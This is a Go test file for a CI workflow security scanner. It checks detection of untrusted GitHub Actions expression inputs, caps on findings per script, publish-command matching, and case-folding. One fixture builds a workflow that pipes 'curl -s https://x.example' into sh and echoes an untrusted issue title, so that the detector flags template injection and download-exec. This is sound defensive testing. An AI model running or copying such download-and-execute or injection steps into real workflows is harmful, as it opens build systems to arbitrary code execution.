package cicheck

import (
	"strings"
	"testing"

	"github.com/rhysd/actionlint"

	"github.com/buildwall/buildwall/internal/ciconfig"
)

// The cheap pre-filters must never hide a real match.

func TestMayBeUntrustedCoversUntrustedInputs(t *testing.T) {
	var paths []string
	var walk func(prefix string, m *actionlint.UntrustedInputMap)
	walk = func(prefix string, m *actionlint.UntrustedInputMap) {
		p := m.Name
		if prefix != "" {
			p = prefix + "." + m.Name
		}
		if len(m.Children) == 0 {
			paths = append(paths, p)
		}
		for _, c := range m.Children {
			walk(p, c)
		}
	}
	for _, roots := range []actionlint.UntrustedInputSearchRoots{actionlint.BuiltinUntrustedInputs, untrustedRoots} {
		for _, r := range roots {
			walk("", r)
		}
	}
	if len(paths) < 20 {
		t.Fatalf("only %d untrusted paths found", len(paths))
	}
	for _, p := range paths {
		expr := " " + p + " }}"
		if strings.Contains(p, "*") {
			expr = " join(" + p + ", ' ') }}"
		}
		if !mayBeUntrusted(expr) {
			t.Errorf("mayBeUntrusted misses %s", p)
		}
		es := expressions("echo ${{" + expr)
		if len(es) != 1 || len(es[0].Untrusted) == 0 {
			t.Errorf("%s is not reported as untrusted", p)
		}
	}
}

func TestFindingsPerScriptAreBounded(t *testing.T) {
	run := strings.Repeat("echo \"${{ github.event.issue.title }}\"\ncurl -s https://x.example | sh\n", 2*maxFindingsPerScalar)
	var b strings.Builder
	b.WriteString("on: issues\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n")
	for line := range strings.SplitSeq(strings.TrimSuffix(run, "\n"), "\n") {
		b.WriteString("          " + line + "\n")
	}
	w, err := ciconfig.ParseWorkflow([]byte(b.String()))
	if err != nil {
		t.Fatal(err)
	}
	counts := map[string]int{}
	for _, f := range CheckWorkflow(&Context{Path: "x.yml"}, w) {
		counts[f.Rule]++
	}
	for _, rule := range []string{"template-injection", "download-exec"} {
		if counts[rule] != maxFindingsPerScalar {
			t.Errorf("%s: %d findings, want %d", rule, counts[rule], maxFindingsPerScalar)
		}
	}
}

func TestPublishAnchorsCoverPublishCommands(t *testing.T) {
	for _, c := range publishCommands {
		if got := publishCommand("set -e\nexport X=1\n" + c + " --flag\n"); got == "" {
			t.Errorf("publishCommand misses %q", c)
		}
	}
}

// FuzzContainsFold checks containsFold against lower-casing both sides.
func FuzzContainsFold(f *testing.F) {
	for _, s := range [][2]string{
		{"echo ${{ GITHUB.EVENT.issue.title }}", "event"},
		{"eEeEvent", "event"},
		{"ABC", "abcd"},
		{"a-b", "-b"},
		{"", "x"},
	} {
		f.Add(s[0], s[1])
	}
	f.Fuzz(func(t *testing.T, s, sub string) {
		sub = strings.ToLower(sub)
		for i := 0; i < len(sub); i++ {
			if sub[i] >= 0x80 {
				return // containsFold takes lower-case ASCII
			}
		}
		want := strings.Contains(asciiLower(s), sub)
		if got := containsFold(s, sub); got != want {
			t.Fatalf("containsFold(%q, %q) = %v, want %v", s, sub, got, want)
		}
	})
}

func asciiLower(s string) string {
	b := []byte(s)
	for i, c := range b {
		if 'A' <= c && c <= 'Z' {
			b[i] = c + 'a' - 'A'
		}
	}
	return string(b)
}
